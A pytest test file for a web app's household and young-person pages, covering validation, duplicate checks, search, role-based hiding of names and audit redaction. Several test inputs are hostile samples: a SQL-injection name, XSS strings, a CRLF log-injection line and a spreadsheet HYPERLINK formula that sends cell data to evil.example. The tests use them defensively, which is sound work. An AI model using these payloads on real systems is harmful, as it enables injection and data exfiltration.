"""The household and young person pages: add, change, search, what each received, and
who sees names. Every write is checked in a fresh app context after the request."""

from __future__ import annotations

import html
import json
import re
from datetime import date, timedelta

import pytest
from markupsafe import escape
from sqlalchemy import select

from funds.extensions import db
from funds.models import (
    AuditEvent,
    Disbursement,
    Household,
    Role,
    Team,
    User,
    YoungPerson,
)
from funds.people.services import HOUSEHOLD_REFERENCE, YOUNG_PERSON_REFERENCE
from funds.permissions import PERMISSIONS, RECORDERS
from tests.conftest import IN_PERIOD, REAL_TODAY, TODAY, count

#: A valid household form; tests change one field at a time.
HOUSEHOLD = {
    "name": "Marta Kowalska",
    "contact": "07700 900123",
    "case_reference": "CMS-1001",
    "adults": "2",
    "children": "3",
    "groups": ["children", "disabled"],
    "postcode_district": "so14 0ab",
    "team": "",
    "notes": "Referred by the school.\nPrefers text messages.",
}


def young_person_form(**changes) -> dict:
    """A valid young person form (born 16 years ago)."""
    born = REAL_TODAY.replace(day=1) - timedelta(days=16 * 366)
    data = {
        "name": "Jordan Lee",
        "contact": "jordan@example.org",
        "case_reference": "YP-CASE-7",
        "date_of_birth": [str(born.day), str(born.month), str(born.year)],
        "gender": "non-binary",
        "ethnicity": "mixed",
        "disability": "no",
        "team": "",
        "household": "",
        "notes": "",
    }
    data.update(changes)
    return data


def _dob(day: date) -> list[str]:
    return [str(day.day), str(day.month), str(day.year)]


@pytest.fixture
def staff(create_user, login):
    """Sign in as staff; returns the user's id."""
    user_id = create_user(Role.STAFF, name="Sam Staff")
    login(user_id)
    return user_id


@pytest.fixture
def finance(create_user, login):
    """Sign in as finance; returns the user's id."""
    user_id = create_user(Role.FINANCE, name="Fin Ance")
    login(user_id)
    return user_id


def _household(app, household_id: int) -> Household:
    with app.app_context():
        household = db.session.get(Household, household_id)
        db.session.expunge(household)
        return household


def _young_person(app, person_id: int) -> YoungPerson:
    with app.app_context():
        person = db.session.get(YoungPerson, person_id)
        db.session.expunge(person)
        return person


def _only(app, model):
    with app.app_context():
        record = db.session.scalars(select(model)).one()
        db.session.expunge(record)
        return record


def _people_events(app) -> list[AuditEvent]:
    with app.app_context():
        events = db.session.scalars(
            select(AuditEvent)
            .where(
                AuditEvent.object_type.in_(["households", "young_people"]),
                # Views of a page are on record too (tests/privacy/test_person_views.py).
                AuditEvent.action != "person.view",
            )
            .order_by(AuditEvent.id)
        ).all()
        for event in events:
            db.session.expunge(event)
        return list(events)


def _errors(response) -> list[str]:
    """The field error messages on a page."""
    return [
        html.unescape(re.sub(r"<[^>]+>|Error:", "", message)).strip()
        for message in re.findall(
            r'class="govuk-error-message">(.*?)</p>',
            response.get_data(as_text=True),
            re.S,
        )
    ]


def _team(app, name="Young People's Team") -> int:
    with app.app_context():
        team = Team(name=name)
        db.session.add(team)
        db.session.commit()
        return team.id


# --- adding a household -------------------------------------------------------------------


def test_staff_add_a_household(app, client, staff):
    team_id = _team(app)
    response = client.post("/households/new", data={**HOUSEHOLD, "team": str(team_id)})
    assert response.status_code == 302
    household = _only(app, Household)
    assert response.headers["Location"] == f"/households/{household.id}"
    assert HOUSEHOLD_REFERENCE.fullmatch(household.reference)
    assert (household.adults, household.children) == (2, 3)
    assert household.has_children and household.has_disabled_person
    assert not household.has_pensioner and not household.has_care_leaver
    assert household.postcode_district == "SO14"
    assert household.team_id == team_id
    assert household.case_reference == "CMS-1001"
    assert household.name == "Marta Kowalska"
    assert household.notes == HOUSEHOLD["notes"]
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert f"Household {household.reference} added" in page
    assert "Children, Disabled person" in page and "SO14" in page
    assert "Referred by the school.<br>Prefers text messages." in page
    events = _people_events(app)
    assert [e.action for e in events] == ["household.create"]
    assert events[0].actor_id == staff and events[0].object_id == household.id


def test_two_households_with_the_same_facts_get_different_references(
    app, client, staff
):
    data = {**HOUSEHOLD, "name": "", "case_reference": ""}
    assert client.post("/households/new", data=data).status_code == 302
    assert client.post("/households/new", data=data).status_code == 302
    with app.app_context():
        references = db.session.scalars(select(Household.reference)).all()
    assert len(set(references)) == 2


@pytest.mark.parametrize(
    "typed,stored",
    [
        ("SO14", "SO14"),
        ("so14", "SO14"),
        ("SO14 0AB", "SO14"),
        ("  sw1a1aa ", "SW1A"),
        ("", None),
    ],
)
def test_postcode_district_is_stored_as_the_district(app, client, staff, typed, stored):
    response = client.post(
        "/households/new", data={**HOUSEHOLD, "postcode_district": typed}
    )
    assert response.status_code == 302
    assert _only(app, Household).postcode_district == stored


@pytest.mark.parametrize(
    "field,value,message",
    [
        ("postcode_district", "NOTAPOSTCODE", "Enter the first part of a UK postcode"),
        ("postcode_district", "SO14 0A", "Enter the first part of a UK postcode"),
        ("postcode_district", "x" * 21, "Enter a postcode district like SO14"),
        ("adults", "", "Enter the number of adults"),
        ("adults", "21", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "-1", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "1e1", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "1_0", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "１０", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "٣", "Number of adults must be a whole number from 0 to 20"),
        ("adults", "2.5", "Number of adults must be a whole number from 0 to 20"),
        (
            "children",
            "99999999999999999999",
            "Number of children must be a whole number",
        ),
        ("groups", ["cash_to_self"], "Choose household groups from the list"),
        ("team", "999", "Choose a team from the list"),
        ("team", "abc", "Choose a team from the list"),
        ("name", "Ann\x00e", "Remove the hidden control characters"),
        ("name", "Ann\x0be", "Remove the hidden control characters"),
        ("name", "Ali\u202eecnarF", "Remove the hidden text-direction characters"),
        ("name", "Bob\u2066x", "Remove the hidden text-direction characters"),
        ("name", "Bob\r\nINFO user=admin login ok", "Enter this on a single line"),
        ("name", "x" * 121, "Name must be 120 characters or fewer"),
        ("contact", "c" * 201, "Contact details must be 200 characters or fewer"),
        ("case_reference", "c" * 41, "Case-system reference must be 40 characters"),
        ("notes", "n" * 10_001, "Notes must be 2,000 characters or fewer"),
        ("notes", "\t=1+1", "Remove the tab characters"),
        ("notes", "ok\x07", "Remove the hidden control characters"),
    ],
)
def test_bad_household_input_is_refused_on_its_field(
    app, client, staff, field, value, message
):
    response = client.post("/households/new", data={**HOUSEHOLD, field: value})
    assert response.status_code == 422
    assert any(error.startswith(message) for error in _errors(response)), _errors(
        response
    )
    body = response.get_data(as_text=True)
    assert "There is a problem" in body and "<title>Error:" in body
    assert count(app, Household) == 0
    assert _people_events(app) == []


def test_children_and_the_children_group_go_together(app, client, staff):
    response = client.post(
        "/households/new", data={**HOUSEHOLD, "children": "2", "groups": ["pensioner"]}
    )
    assert response.status_code == 422
    assert "Tick ‘Children’ when the household has children" in _errors(response)
    response = client.post(
        "/households/new", data={**HOUSEHOLD, "adults": "0", "children": "0"}
    )
    assert response.status_code == 422
    assert "Enter how many children there are" in _errors(response)
    assert count(app, Household) == 0


def test_an_empty_post_is_refused_without_a_crash(app, client, staff, create_household):
    household = create_household()
    for url in ("/households/new", f"/households/{household}/edit"):
        response = client.post(url, data={})
        assert response.status_code == 422, url
    assert count(app, Household) == 1


@pytest.mark.parametrize(
    "name",
    [
        "O'Brien",
        "Zoë Ñúñez",
        "李小龍",
        "Siân ap Rhys",
        "Robert'); DROP TABLE households;--",
        '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        "#N/A",
    ],
)
def test_names_round_trip_exactly(app, client, staff, name):
    response = client.post(
        "/households/new", data={**HOUSEHOLD, "name": name, "case_reference": ""}
    )
    assert response.status_code == 302
    household = _only(app, Household)
    assert household.name == name
    assert household.name.encode() == name.encode()
    page = client.get(f"/households/{household.id}").get_data(as_text=True)
    assert str(escape(name)) in page
    listing = client.get("/households").get_data(as_text=True)
    assert str(escape(name)) in listing


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>", '" autofocus onfocus="alert(1)']
)
def test_names_are_escaped_everywhere(app, client, staff, name):
    assert (
        client.post(
            "/households/new", data={**HOUSEHOLD, "name": name, "case_reference": ""}
        ).status_code
        == 302
    )
    household = _only(app, Household)
    person = client.post(
        "/young-people/new",
        data=young_person_form(
            name=name, case_reference="", household=household.reference
        ),
    )
    assert person.status_code == 302
    person_id = _only(app, YoungPerson).id
    escaped = str(escape(name))
    for url in (
        "/households",
        f"/households/{household.id}",
        f"/households/{household.id}/edit",
        "/young-people",
        f"/young-people/{person_id}",
        f"/young-people/{person_id}/edit",
    ):
        body = client.get(url).get_data(as_text=True)
        assert escaped in body, url
        assert name not in body, url
    # A duplicate warning lists the match's name, escaped too.
    warning = client.post("/households/new", data={**HOUSEHOLD, "name": name})
    assert warning.status_code == 409
    assert escaped in warning.get_data(as_text=True)
    assert name not in warning.get_data(as_text=True)


def test_extra_fields_are_ignored(app, client, staff, create_household):
    existing = create_household()
    response = client.post(
        "/households/new",
        data={
            **HOUSEHOLD,
            "id": "9999",
            "reference": "H-AAAAAA",
            "created_at": "2001-01-01T00:00:00",
            "erased_at": "2001-01-01T00:00:00",
            "has_pensioner": "y",
            "team_id": "1",
            "created_by": "1",
        },
    )
    assert response.status_code == 302
    with app.app_context():
        household = db.session.scalars(
            select(Household).where(Household.id != existing)
        ).one()
        assert household.id != 9999 and household.reference != "H-AAAAAA"
        assert household.erased_at is None and not household.has_pensioner
        assert household.team_id is None
        assert household.created_at.year >= 2026
        reference = household.reference
    response = client.post(
        f"/households/{existing}/edit",
        data={**HOUSEHOLD, "reference": "H-AAAAAA", "id": "5", "erased_at": "x"},
    )
    assert response.status_code == 302
    changed = _household(app, existing)
    assert changed.reference not in ("H-AAAAAA", reference)
    assert changed.erased_at is None and changed.id == existing


# --- the duplicate warning ----------------------------------------------------------------


def test_a_likely_duplicate_household_needs_confirming(
    app, client, staff, create_household
):
    first = create_household(case_reference="CMS-1001")
    reference = _household(app, first).reference
    data = {**HOUSEHOLD, "name": "Someone New", "case_reference": "cms-1001"}
    response = client.post("/households/new", data=data)
    assert response.status_code == 409
    body = response.get_data(as_text=True)
    assert "This household may already be recorded" in body
    assert f'<a class="govuk-link" href="/households/{first}">{reference}</a>' in body
    assert "This is a different household: add it anyway" in body
    assert 'value="Someone New"' in body  # what was typed is kept
    assert count(app, Household) == 1
    assert _people_events(app) == [] or all(
        e.action != "household.create" or e.object_id == first
        for e in _people_events(app)
    )
    response = client.post("/households/new", data={**data, "confirm_duplicate": "y"})
    assert response.status_code == 302
    assert count(app, Household) == 2


def test_a_household_with_the_same_name_is_a_likely_duplicate(
    app, client, staff, create_household
):
    create_household(name="Marta Kowalska")
    response = client.post(
        "/households/new",
        data={**HOUSEHOLD, "name": "MARTA KOWALSKA", "case_reference": ""},
    )
    assert response.status_code == 409
    assert count(app, Household) == 1


def test_a_likely_duplicate_young_person_needs_confirming(
    app, client, staff, create_young_person
):
    data = young_person_form(case_reference="")
    day, month, year = (int(part) for part in data["date_of_birth"])
    born = date(year, month, day)
    first = create_young_person(name="Jordan Lee", date_of_birth=born)
    reference = _young_person(app, first).reference
    # Same name, another birth date: not a likely duplicate.
    other_day = _dob(born + timedelta(days=1))
    assert (
        client.post(
            "/young-people/new",
            data={**data, "name": "jordan lee", "date_of_birth": other_day},
        ).status_code
        == 302
    )
    response = client.post("/young-people/new", data={**data, "name": "jordan lee"})
    assert response.status_code == 409
    body = response.get_data(as_text=True)
    assert "This young person may already be recorded" in body
    assert f'href="/young-people/{first}">{reference}</a>' in body
    assert count(app, YoungPerson) == 2
    response = client.post(
        "/young-people/new",
        data={**data, "name": "jordan lee", "confirm_duplicate": "y"},
    )
    assert response.status_code == 302
    assert count(app, YoungPerson) == 3


# --- changing a household -----------------------------------------------------------------


def test_staff_change_a_household(app, client, staff, create_household):
    household_id = create_household(
        name="Marta Kowalska", adults=1, postcode_district="SO14"
    )
    before = _household(app, household_id)
    page = client.get(f"/households/{household_id}/edit").get_data(as_text=True)
    assert 'value="Marta Kowalska"' in page and 'value="SO14"' in page
    response = client.post(
        f"/households/{household_id}/edit",
        data={**HOUSEHOLD, "name": "Marta Nowak", "postcode_district": "PO1 2AB"},
    )
    assert response.status_code == 302
    after = _household(app, household_id)
    assert after.reference == before.reference
    assert after.name == "Marta Nowak" and after.postcode_district == "PO1"
    assert after.adults == 2
    update = _people_events(app)[-1]
    assert update.action == "household.update" and update.actor_id == staff
    assert update.before["name"] == update.after["name"] == "(recorded)"
    assert update.after["postcode_district"] == "PO1"
    trail = json.dumps([update.before, update.after])
    assert "Marta" not in trail and "Kowalska" not in trail and "07700" not in trail


def test_a_bad_change_writes_nothing(app, client, staff, create_household):
    household_id = create_household(name="Marta", postcode_district="SO14")
    response = client.post(
        f"/households/{household_id}/edit",
        data={**HOUSEHOLD, "postcode_district": "NOTAPOSTCODE"},
    )
    assert response.status_code == 422
    assert "Enter the first part of a UK postcode" in " ".join(_errors(response))
    after = _household(app, household_id)
    assert after.postcode_district == "SO14" and after.name == "Marta"
    assert [e.action for e in _people_events(app)] == ["household.create"]


def test_an_erased_household_cannot_be_changed(app, client, staff, create_household):
    household_id = create_household()
    with app.app_context():
        from funds.models.base import utcnow

        db.session.get(Household, household_id).erased_at = utcnow()
        db.session.commit()
    page = client.get(f"/households/{household_id}").get_data(as_text=True)
    assert "personal details were erased" in page and "Change details" not in page
    response = client.post(f"/households/{household_id}/edit", data=HOUSEHOLD)
    assert response.status_code == 409
    assert _household(app, household_id).name is None


# --- young people -------------------------------------------------------------------------


def test_staff_add_a_young_person_linked_to_a_household(
    app, client, staff, create_household
):
    household_id = create_household()
    reference = _household(app, household_id).reference
    team_id = _team(app)
    data = young_person_form(household=reference.lower(), team=str(team_id))
    response = client.post("/young-people/new", data=data)
    assert response.status_code == 302
    person = _only(app, YoungPerson)
    assert YOUNG_PERSON_REFERENCE.fullmatch(person.reference)
    assert person.household_id == household_id and person.team_id == team_id
    assert person.gender.value == "non-binary" and person.ethnicity.value == "mixed"
    assert person.age_on(REAL_TODAY) == 16
    page = client.get(f"/young-people/{person.id}").get_data(as_text=True)
    assert re.search(r"Age\s*</dt>\s*<dd[^>]*>\s*16\s*</dd>", page)
    assert f'href="/households/{household_id}">{reference}</a>' in page
    assert "Mixed or Multiple ethnic groups" in page
    household_page = client.get(f"/households/{household_id}").get_data(as_text=True)
    assert person.reference in household_page
    events = _people_events(app)
    assert events[-1].action == "young_person.create"
    assert events[-1].after["date_of_birth"] == "(recorded)"
    assert "Jordan" not in json.dumps(events[-1].after)


@pytest.mark.parametrize(
    "date_of_birth,message",
    [
        (["30", "2", "2010"], "Date of birth must be a real date"),
        (["31", "4", "2010"], "Date of birth must be a real date"),
        (["0", "0", "0000"], "Date of birth must be a real date"),
        (["0", "0", "0"], "Year must include 4 numbers"),
        (["1", "13", "2010"], "Date of birth must be a real date"),
        (["1", "1", "10"], "Year must include 4 numbers"),
        (["1", "1", "95"], "Year must include 4 numbers"),
        (["", "3", "2010"], "Date of birth must include a day"),
        (["1", "", ""], "Date of birth must include a month and a year"),
        (["1", "2"], "Date of birth must be a real date"),
        (["1", "2", "2010", "4"], "Date of birth must be a real date"),
        (["", "", ""], "Enter the date of birth"),
        (["1st", "May", "2010"], "Date of birth must be a real date"),
        (["１", "２", "２０１０"], "Date of birth must be a real date"),
        (["-1", "2", "2010"], "Date of birth must be a real date"),
        (["1", "1", "1900"], "Check the date of birth"),
        (["1", "1", "9999"], "The date of birth must be today or in the past"),
    ],
)
def test_bad_dates_of_birth_are_refused(app, client, staff, date_of_birth, message):
    response = client.post(
        "/young-people/new", data=young_person_form(date_of_birth=date_of_birth)
    )
    assert response.status_code == 422
    assert any(error.startswith(message) for error in _errors(response)), _errors(
        response
    )
    body = response.get_data(as_text=True)
    assert 'href="#date_of_birth-day"' in body  # the error summary links to the day
    assert count(app, YoungPerson) == 0


@pytest.mark.parametrize(
    "years,days,accepted",
    [
        (0, 0, True),  # born today
        (0, -1, False),  # born tomorrow
        (30, 0, True),  # 30 today
        (31, -1, True),  # still 30, 31 tomorrow
        (31, 0, False),  # 31 today
    ],
)
def test_date_of_birth_limits_on_the_form(app, client, staff, years, days, accepted):
    today = REAL_TODAY
    try:
        birthday = today.replace(year=today.year - years)
    except ValueError:  # 29 February
        birthday = today.replace(year=today.year - years, day=28)
    born = birthday - timedelta(days=days)
    response = client.post(
        "/young-people/new", data=young_person_form(date_of_birth=_dob(born))
    )
    assert response.status_code == (302 if accepted else 422)
    assert count(app, YoungPerson) == (1 if accepted else 0)


@pytest.mark.parametrize(
    "field,value,message",
    [
        ("gender", "cash_to_self", "Select a gender from the list"),
        ("gender", "", "Select a gender"),
        ("ethnicity", "martian", "Select an ethnic group from the list"),
        ("disability", "maybe", "Select yes, no"),
        ("household", "H-123", "Enter a household reference like H-7K3Q9M"),
        ("household", "YP-ABCDEF", "Enter a household reference like H-7K3Q9M"),
        ("household", "H-ZZZZZZ", "No household has the reference H-ZZZZZZ"),
        ("team", "7", "Choose a team from the list"),
        ("name", "Ann\x00e", "Remove the hidden control characters"),
        ("name", "Ali\u202eecnarF", "Remove the hidden text-direction characters"),
        ("name", "n" * 121, "Name must be 120 characters or fewer"),
        ("contact", "Bob\nx", "Enter this on a single line"),
        ("notes", "n" * 2001, "Notes must be 2,000 characters or fewer"),
    ],
)
def test_bad_young_person_input_is_refused_on_its_field(
    app, client, staff, field, value, message
):
    response = client.post(
        "/young-people/new", data=young_person_form(**{field: value})
    )
    assert response.status_code == 422
    assert any(error.startswith(message) for error in _errors(response)), _errors(
        response
    )
    assert count(app, YoungPerson) == 0
    assert _people_events(app) == []


def test_staff_change_a_young_person(app, client, staff, create_household):
    household_id = create_household()
    reference = _household(app, household_id).reference
    assert client.post("/young-people/new", data=young_person_form()).status_code == 302
    person = _only(app, YoungPerson)
    page = client.get(f"/young-people/{person.id}/edit").get_data(as_text=True)
    assert 'value="Jordan Lee"' in page and 'value="non-binary" checked' in page
    response = client.post(
        f"/young-people/{person.id}/edit",
        data=young_person_form(household=reference, gender="female"),
    )
    assert response.status_code == 302
    after = _young_person(app, person.id)
    assert after.household_id == household_id and after.gender.value == "female"
    assert after.reference == person.reference
    update = _people_events(app)[-1]
    assert update.action == "young_person.update"
    assert update.after == {"gender": "female", "household_id": household_id}
    # Unlinking: an empty household reference.
    response = client.post(
        f"/young-people/{person.id}/edit", data=young_person_form(household="")
    )
    assert response.status_code == 302
    assert _young_person(app, person.id).household_id is None


# --- search and lists ---------------------------------------------------------------------


def test_search_by_reference_case_reference_and_name(
    app, client, staff, create_household
):
    wanted = create_household(name="Priya Patel", case_reference="CMS-555")
    other = create_household(name="Someone Else", case_reference="CMS-999")
    wanted_ref = _household(app, wanted).reference
    other_ref = _household(app, other).reference
    for q in (wanted_ref, wanted_ref.lower(), "cms-555", "patel", "PRIYA"):
        # The search box posts: a name never goes in the URL.
        body = client.post("/households", data={"q": q}).get_data(as_text=True)
        assert wanted_ref in body and other_ref not in body, q
    body = client.post("/households", data={"q": "nobody"}).get_data(as_text=True)
    assert "No household matches that search" in body
    body = client.get("/households").get_data(as_text=True)
    assert wanted_ref in body and other_ref in body


def test_search_finds_young_people(app, client, staff, create_young_person):
    wanted = create_young_person(name="Jordan Lee", case_reference="YPC-1")
    other = create_young_person(name="Alex Kim")
    wanted_ref = _young_person(app, wanted).reference
    other_ref = _young_person(app, other).reference
    for q in (wanted_ref.lower(), "ypc-1", "jordan"):
        body = client.post("/young-people", data={"q": q}).get_data(as_text=True)
        assert wanted_ref in body and other_ref not in body, q


@pytest.mark.parametrize("q", ["a\x00b", "Ali\u202eecnarF", "x" * 101])
@pytest.mark.parametrize("url", ["/households", "/young-people"])
def test_a_bad_search_is_refused(app, client, staff, url, q):
    response = client.get(url, query_string={"q": q})
    assert response.status_code == 422
    assert _errors(response)


def test_lists_show_the_newest_hundred_with_a_note(app, client, staff, system_actor):
    from funds.people.services import HouseholdInput, create_household

    with app.app_context():
        actor = db.session.get(User, system_actor())
        for _ in range(101):
            create_household(HouseholdInput(), actor=actor)
        db.session.commit()
    body = client.get("/households").get_data(as_text=True)
    assert (
        body.count('href="/households/') == 100 + 1 + 2
    )  # rows + "Add" is /households/new + the two downloads
    assert "Showing the 100 most recently added households" in body


# --- who sees names -----------------------------------------------------------------------


@pytest.fixture
def named_people(app, create_household, create_young_person):
    """A household and a young person in it, with names, contacts and notes."""
    household = create_household(
        name="Hidden Householdname",
        contact="07700 900999",
        notes="Secret household note",
        case_reference="CMS-31",
    )
    reference = _household(app, household).reference
    person = create_young_person(
        name="Hidden Youngname",
        contact="hidden@example.org",
        notes="Secret person note",
        date_of_birth=date(2010, 6, 15),
        household_id=household,
    )
    return household, reference, person


SECRETS = (
    "Hidden Householdname",
    "Householdname",
    "07700 900999",
    "Secret household note",
    "Hidden Youngname",
    "Youngname",
    "hidden@example.org",
    "Secret person note",
    "15 Jun 2010",
)


def test_finance_never_sees_names(app, client, finance, named_people):
    household, reference, person = named_people
    pages = [
        "/households",
        "/households?q=Hidden",
        f"/households?q={reference}",
        f"/households/{household}",
        "/young-people",
        "/young-people?q=Hidden",  # (a search box shows what was typed)
        f"/young-people/{person}",
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.get_data(as_text=True)
        for secret in SECRETS:
            assert secret not in body, (url, secret)
    # References and facts are there; a search by name finds nothing.
    assert reference in client.get(f"/households?q={reference}").get_data(as_text=True)
    assert reference not in client.get("/households?q=Hidden").get_data(as_text=True)
    assert "CMS-31" in client.get("/households?q=cms-31").get_data(as_text=True)
    assert "Search by reference or case reference" in client.get(
        "/households"
    ).get_data(as_text=True)
    person_page = client.get(f"/young-people/{person}").get_data(as_text=True)
    assert "Age" in person_page and "Date of birth" not in person_page
    # Finance only reads.
    for url in (
        "/households/new",
        f"/households/{household}/edit",
        "/young-people/new",
    ):
        assert client.get(url).status_code == 403, url
    assert (
        client.post(f"/households/{household}/edit", data=HOUSEHOLD).status_code == 403
    )
    assert "Record an award" not in client.get(f"/households/{household}").get_data(
        as_text=True
    )


def test_staff_see_names(app, client, staff, named_people):
    household, reference, person = named_people
    body = client.get(f"/households/{household}").get_data(as_text=True)
    assert "Hidden Householdname" in body and "Hidden Youngname" in body
    assert "Secret household note" in body
    body = client.post("/households", data={"q": "householdname"}).get_data(
        as_text=True
    )
    assert reference in body
    body = client.get(f"/young-people/{person}").get_data(as_text=True)
    assert "15 Jun 2010" in body and "hidden@example.org" in body


def test_an_edit_by_a_role_that_cannot_see_names_keeps_them(
    app, client, finance, named_people, monkeypatch
):
    # Finance cannot edit today; if the permission table ever lets it, the private
    # fields are still neither shown nor wiped.
    for endpoint in ("people.edit_household", "people.edit_young_person"):
        monkeypatch.setitem(PERMISSIONS, endpoint, RECORDERS | {Role.FINANCE})
    household, reference, person = named_people
    page = client.get(f"/households/{household}/edit").get_data(as_text=True)
    assert 'name="name"' not in page and 'name="contact"' not in page
    for secret in SECRETS:
        assert secret not in page
    response = client.post(
        f"/households/{household}/edit",
        data={**HOUSEHOLD, "name": "Overwritten", "contact": "", "notes": ""},
    )
    assert response.status_code == 302
    after = _household(app, household)
    assert after.name == "Hidden Householdname" and after.contact == "07700 900999"
    assert after.notes == "Secret household note" and after.adults == 2
    page = client.get(f"/young-people/{person}/edit").get_data(as_text=True)
    for secret in SECRETS:
        assert secret not in page
    response = client.post(
        f"/young-people/{person}/edit",
        data=young_person_form(
            name="Overwritten",
            contact="",
            household=reference,
            date_of_birth=["15", "6", "2010"],
        ),
    )
    assert response.status_code == 302
    after = _young_person(app, person)
    assert after.name == "Hidden Youngname" and after.contact == "hidden@example.org"
    assert after.notes == "Secret person note" and after.gender.value == "non-binary"


# --- everything they received -------------------------------------------------------------


def test_household_page_shows_awards_across_grants_with_the_net_total(
    app,
    client,
    staff,
    create_user,
    create_grant,
    create_household,
    create_disbursement,
):
    household_id = create_household(adults=2)
    reference = _household(app, household_id).reference
    hsf = create_grant(reference="HSF-23")
    health = create_grant(reference="MHB-24")
    create_disbursement(hsf, "40.00", household_id=household_id)
    mistake = create_disbursement(
        hsf, "299.00", household_id=household_id, item="Fridge"
    )
    create_disbursement(health, "12.50", household_id=household_id)
    create_disbursement(health, "75.00", household_id=create_household())
    finance = create_user(Role.FINANCE)
    with app.app_context():
        from funds.disbursements.services import reverse_disbursement

        reverse_disbursement(
            db.session.get(Disbursement, mistake),
            actor=db.session.get(User, finance),
            reason="Wrong household",
            reversed_on=IN_PERIOD,
            today=TODAY,
        )
        db.session.commit()
    body = client.get(f"/households/{household_id}").get_data(as_text=True)
    assert re.search(r'id="awards-count">\s*2\s*<', body)
    assert re.search(r'id="net-received">\s*£52.50\s*<', body)
    assert re.search(r'id="grants-count">\s*2\s*<', body)
    assert "HSF-23" in body and "MHB-24" in body
    for amount in ("£40.00", "£299.00", "−£299.00", "£12.50"):
        assert amount in body or amount.replace("−", "-") in body, amount
    assert "£75.00" not in body  # another household's award
    assert "Reversed" in body and "Reversal" in body
    assert f'href="/awards/new?household={reference}"' in body


def test_young_person_page_shows_what_they_received(
    app, client, staff, create_grant, create_young_person, create_disbursement
):
    person = create_young_person(date_of_birth=date(2010, 1, 1))
    grant = create_grant(reference="MHB-1")
    create_disbursement(grant, "18.00", young_person_id=person, item="Cinema voucher")
    body = client.get(f"/young-people/{person}").get_data(as_text=True)
    assert re.search(r'id="awards-count">\s*1\s*<', body)
    assert re.search(r'id="net-received">\s*£18.00\s*<', body)
    assert "Cinema voucher" in body and "MHB-1" in body
    reference = _young_person(app, person).reference
    assert f'href="/awards/new?young_person={reference}"' in body


def test_a_long_history_pages_with_older_entries(
    app, client, staff, create_grant, create_household, create_disbursement
):
    household_id = create_household()
    grant = create_grant(total="10000.00")
    for day in range(55):
        create_disbursement(
            grant,
            "1.00",
            household_id=household_id,
            awarded_on=date(2024, 4, 1) + timedelta(days=day),
        )
    body = client.get(f"/households/{household_id}").get_data(as_text=True)
    assert re.search(r'id="awards-count">\s*55\s*<', body)
    assert re.search(r'id="net-received">\s*£55.00\s*<', body)
    older = re.search(r'href="([^"]*after=[^"]*)" rel="next"', body)
    assert older
    second = client.get(html.unescape(older.group(1)))
    assert second.status_code == 200
    second_body = second.get_data(as_text=True)
    assert "01 Apr 2024" in second_body or "1 Apr 2024" in second_body
    assert "Back to the newest entries" in second_body


# --- not found ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/households/999",
        "/households/999/edit",
        "/young-people/999",
        "/young-people/999/edit",
        "/households/0",
        "/households/-1",
        "/households/abc",
        "/households/99999999999999999999",
        "/young-people/1%00",
    ],
)
def test_unknown_people_are_not_found(app, client, staff, url):
    assert client.get(url).status_code == 404
    assert client.post(url, data=HOUSEHOLD).status_code in (404, 405)
    assert count(app, Household) == 0


@pytest.mark.parametrize("digit", ["１", "١", "𝟏"])
def test_an_id_is_written_with_ascii_digits_only(
    client, staff, create_household, digit
):
    create_household()
    assert client.get("/households/1").status_code == 200
    assert client.get(f"/households/{digit}").status_code == 404
    assert client.get(f"/awards/{digit}").status_code == 404


@pytest.mark.parametrize(
    "url",
    ["/households", "/households/new", "/young-people", "/young-people/new"],
)
def test_anonymous_visitors_are_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


@pytest.mark.parametrize(
    "role", [None, *Role], ids=lambda r: "anonymous" if r is None else r.value
)
def test_every_people_page_answers_each_role(
    app, client, create_user, login, create_household, create_young_person, role
):
    household = create_household(name="Someone")
    person = create_young_person(household_id=household, date_of_birth=date(2010, 1, 1))
    if role is not None:
        login(create_user(role))
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("people."):
            continue
        url = rule.build(
            {"household_id": household, "young_person_id": person},
            append_unknown=False,
        )[1]
        allowed = PERMISSIONS[rule.endpoint]
        # The type-ahead answers POST only (a typed name never goes in an address).
        response = client.get(url) if "GET" in rule.methods else client.post(url)
        response.close()  # a download streams until its body is closed
        if role is None:
            assert response.status_code == 302, url
        elif allowed == "signed-in" or role in allowed:
            assert response.status_code == 200, (url, role)
        else:
            assert response.status_code == 403, (url, role)
